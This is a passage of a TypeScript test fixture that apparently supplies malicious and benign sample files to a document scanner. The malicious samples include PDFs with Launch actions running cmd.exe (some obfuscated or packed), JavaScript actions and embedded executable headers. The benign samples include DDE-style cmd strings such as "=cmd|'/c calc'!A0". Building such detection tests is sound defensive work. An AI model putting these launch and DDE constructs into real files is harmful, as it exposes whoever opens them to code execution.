      '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
      stream('/Subtype/Image/Filter/FlateDecode', deflateSync(Buffer.from('MZ\x90\0\x03\0'))),
    ),
    'embedded-object',
  ],
  [
    'an attachment that nobody can unpack',
    'a.pdf',
    onePage(stream('/Type/EmbeddedFile/Filter/LZWDecode', noise(80))),
    'not-looked-through',
  ],
  [
    'a form of the other kind',
    'a.pdf',
    pdf([catalog('/AcroForm<</XFA[(a)4 0 R]/Fields[]>>'), PAGES, PAGE]),
    'pdf-script',
  ],
  [
    'a script in a second version',
    'a.pdf',
    Buffer.concat([onePage(), Buffer.from('9 0 obj<</S/JavaScript/JS(1)>>endobj\n%%EOF\n')]),
    'pdf-script',
  ],
  [
    'an action that starts a program',
    'a.pdf',
    pdf([catalog('/OpenAction<</S/Launch/F(cmd.exe)>>'), PAGES, PAGE]),
    'pdf-launch',
  ],
  [
    'an action by codes',
    'a.pdf',
    onePage('<</Type/Action/S /L#61unch /Win<</F(cmd.exe)>>>>'),
    'pdf-launch',
  ],
  [
    'an action in compressed objects',
    'a.pdf',
    onePage(objectStream('<</S/Launch/F(cmd.exe)>>')),
    'pdf-launch',
  ],
  [
    'an attached program',
    'a.pdf',
    onePage(
      stream('/Type/EmbeddedFile/Filter/FlateDecode', deflateSync(Buffer.from('MZ\x90\0\x03\0'))),
    ),
    'embedded-object',
  ],
  [
    'an attached program in the open',
    'a.pdf',
    onePage(stream('/Type/EmbeddedFile', Buffer.from('MZ\x90\0\x03\0'))),
    'embedded-object',
  ],
  [
    'encrypted objects',
    'a.pdf',
    pdf(
      [CATALOG, PAGES, PAGE, stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', noise(80))],
      '/Encrypt 9 0 R',
    ),
    'pdf-protected',
  ],
  [
    'objects that nobody can unpack',
    'a.pdf',
    onePage(stream('/Type/ObjStm/N 1/First 4/Filter/LZWDecode', noise(80))),
    'not-looked-through',
  ],
];

/** Each honest file: what it is, its name and its bytes. */
export const HONEST: readonly (readonly [string, string, Buffer])[] = [
  [
    'a Word file with hyperlinks',
    'Siân Llŷr.docx',
    docx(field(' HYPERLINK "https://www.england.nhs.uk/dde" '), {
      'word/_rels/document.xml.rels': relations(
        ['hyperlink', 'https://www.england.nhs.uk', 'External'],
        ['hyperlink', 'file://server/share/a.docx', 'External'],
        ['hyperlink', 'mailto:sian@example.org', 'External'],
        ['styles', 'styles.xml'],
      ),
    }),
  ],
  [
    'fields that Word makes',
    'Cynllun gweithredu – tŷ.docx',
    docx(
      [
        ' TOC \\o "1-3" \\h \\z \\u ',
        ' PAGE ',
        ' DATE \\@ "dd/MM/yyyy" ',
        ' REF _Ref1 \\h ',
        ' MERGEFIELD Address ',
        ' SEQ Table \\* ARABIC ',
      ]
        .map((text) => field(text))
        .join(''),
    ),
  ],
  [
    'words about DDE',
    'a.docx',
    docx(
      "<w:p><w:r><w:t>DDEAUTO and DDE fields are refused; see =cmd|'/c calc'!A0 and ppaction.</w:t></w:r></w:p>",
    ),
  ],
  [
    'a picture of its own',
    'a.docx',
    docx(field(' INCLUDEPICTURE "C:\\\\Users\\\\Sian\\\\logo.png" \\* MERGEFORMAT '), {
      'word/_rels/document.xml.rels': relations(['image', 'media/image1.png']),
      'word/media/image1.png': noise(5_000),
    }),
  ],
  [
    'a picture linked from this computer',
    'a.docx',
    docxWith(['image', 'file:///C:\\Users\\Sian\\logo.png', 'External']),
  ],
  ...[
    'Normal.dotm',
    'C:\\Users\\Sian\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
    'file:///C:/Trust%20templates/Bwrdd%20Iechyd.dotx',
    'file:///C:\\Trust\\Letter.dotx',
    'file://C:/Trust/Letter.dotx',
    'file:/C:/Trust/Letter.dotx',
    'file://localhost/C:/Trust/Letter.dotx',
    'H:\\Templates\\Corporate%20report.dotx',
    '\\\\?\\C:\\Templates\\a.dotx',
    '../Templates/a.dotx',
    'file:///Users/sian/Library/Normal.dotm',
  ].map((target) => [`the template ${target}`, 'a.docx', withTemplate(target)] as const),
  ['a chart with its workbook', 'Staffing.docx', charted('docx', workbook())],
  ['a slide with a chart and its workbook', 'Bwrdd.pptx', charted('pptx', workbook())],
  ['a chart whose workbook has a chart', 'a.docx', charted('docx', nested(2))],
  [
    'a workbook with links to another one',
    'a.xlsx',
    workbook({
      'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${SHEET}"><externalBook r:id="rId1"/></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
        'externalLinkPath',
        'file:///\\\\trust\\share\\Rota.xlsx',
        'External',
      ]),
    }),
  ],
  [
    'formulas',
    'a.xlsx',
    workbook({
      ...cell('IF(A1="a|b",SUM(B1:B9),HYPERLINK("https://example.org","x"))'),
      'xl/printerSettings/printerSettings1.bin': noise(2_000),
    }),
  ],
  [
    'formulas with bars in texts and names',
    'a.xlsx',
    workbook(
      cell(
        "IF(A1=&quot;a|'b&quot;,'Sian|Llŷr''s'!B2,Table1[[#This Row],[Band|Grade]])&amp;&quot;DDE(&quot;",
      ),
    ),
  ],
  [
    'a fraction',
    'a.docx',
    docx(
      '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f></m:oMath>',
    ),
  ],
  [
    'fields in fields, and a link to a range of this computer',
    'a.docx',
    docx(
      `${nestedField(instruction(' IF '), field('MERGEFIELD Band'), instruction(' = "5" "DDE" "no" '))}${field(' LINK Excel.Sheet.12 "C:\\\\Trust\\\\Rota.xlsx" "Rota!R1C1:R2C2" \\a ')}${nestedField(instruction(' TOC \\o '), sign('separate'), field('PAGEREF _Toc1'))}`,
    ),
  ],
  [
    'a workbook of Google',
    'Copy of Rota.xlsx',
    office('xlsx', {
      'xl/workbook.xml': `<workbook xmlns="${SHEET}" xmlns:mx="http://schemas.microsoft.com/office/mac/excel/2008/main"><sheets/></workbook>`,
      'xl/drawings/drawing1.xml': '<xdr:wsDr/>',
      'xl/sharedStrings.xml': `<sst xmlns="${SHEET}"><si><t>=cmd|'x'!A0 DDE(</t></si></sst>`,
    }),
  ],
  [
    'a slide with links between slides and to a film',
    'a.pptx',
    office('pptx', {
      'ppt/slides/slide1.xml':
        '<p:sld><a:hlinkClick r:id="rId1" action="ppaction://hlinksldjump"/></p:sld>',
      'ppt/slides/_rels/slide1.xml.rels': relations(
        ['slide', 'slide2.xml'],
        ['video', 'https://www.youtube.com/embed/x', 'External'],
        ['hyperlink', 'https://example.org', 'External'],
      ),
    }),
  ],
  [
    'a text of LibreOffice',
    'Adroddiad.odt',
    openDocument(
      'text',
      '<text:a xlink:href="https://example.org/">x</text:a><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>',
      {
        'Object 1/content.xml': `<office:document-content xmlns:office="${ODF}:office:1.0"><office:chart/></office:document-content>`,
        'Pictures/1.png': noise(900),
        'Basic/script-lb.xml':
          '<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd"><library:library/>',
        'meta.xml': `<office:document-meta xmlns:office="${ODF}:office:1.0"><meta:template xlink:href="../../templates/letter.ott"/></office:document-meta>`,
      },
    ),
  ],
  [
    'a sheet of LibreOffice',
    'a.ods',
    openDocument('spreadsheet', '<table:table-cell table:formula="of:=SUM([.A1:.A9])"/>'),
  ],
  [
    'a PDF that opens at a page',
    'a.pdf',
    pdf([
      catalog('/OpenAction[3 0 R/Fit]/Names<</Dests 4 0 R>>/Outlines 5 0 R/AcroForm<</Fields[]>>'),
      PAGES,
      PAGE,
      '<</Names[(Launch)[3 0 R/Fit]]>>',
      '<</Title(JavaScript and Launch)/A<</S/URI/URI(https://example.org)>>>>',
    ]),
  ],
  [
    'a PDF with compressed objects',
    'a.pdf',
    onePage(objectStream('<</Type/Page/S/Span/Title(JavaScript)>>')),
  ],
  ...[
    'https://developer.mozilla.org/en-US/docs/Web/JavaScript',
    'https://cdn.example.org/JS',
    'https://example.org/(a/JS)/JavaScript',
    'https://example.org/\\)/JS \\(/S /Launch',
  ].flatMap(
    (link) =>
      [
        [
          `a PDF with the link ${link}`,
          'a.pdf',
          onePage(`<</Type/Annot/Contents(our 3 objectives)/A<</S/URI/URI(${link})>>>>`),
        ],
        [
          `a PDF with the packed link ${link}`,
          'a.pdf',
          onePage(objectStream(`<</Type/Annot/A<</S/URI/URI(${link})>>>>`)),
        ],
      ] as const,
  ),
  [
    'a PDF with places called as actions are',
    'a.pdf',
    pdf([
      catalog('/Dests<</JavaScript[3 0 R/Fit]/JS[3 0 R/Fit]/Launch[3 0 R/Fit]>>'),
      PAGES,
      PAGE,
      '<</Type/Annot/Dest/JavaScript/F 4>>',
      '<</S/GoTo/D/JS>>',
    ]),
  ],
  [
    'a PDF without a table of its objects',
    'a.pdf',
    Buffer.from(
      `%PDF-1.4\n1 0 obj${CATALOG}endobj 2 0 obj${PAGES}endobj 3 0 obj${PAGE}endobj\n%/JS (1)\n%%EOF\n`,
    ),
  ],
  [
    'a PDF with a picture that begins like a program',
    'a.pdf',
    onePage(
      stream('/Subtype/Image/Filter/FlateDecode', deflateSync(Buffer.from('MZ\x90\0\x03\0'))),
    ),
  ],
  [
    'a PDF with pictures',
    'a.pdf',
    onePage(
      ...Array.from({ length: 20 }, () =>
        stream('/Type/XObject/Subtype/Image/Filter/DCTDecode', noise(100_000)),
      ),
    ),
  ],
  [
    'a PDF with compressed pages',
    'a.pdf',
    onePage(
      stream(
        '/Filter/FlateDecode',
        deflateSync(Buffer.from('1 0 0 1 72 720 cm BT /F1 12 Tf (/S /JavaScript) Tj ET')),
      ),
    ),
  ],
  [
    'a PDF that is protected, with its objects in the open',
    'a.pdf',
    pdf([CATALOG, PAGES, PAGE, '<</Filter/Standard/V 1/R 2>>'], '/Encrypt 4 0 R'),
  ],
  [
    'a PDF with a letter attached',
    'a.pdf',
    onePage(stream('/Type/EmbeddedFile/Filter/FlateDecode', deflateSync(Buffer.from('Dear Siân')))),
  ],
];
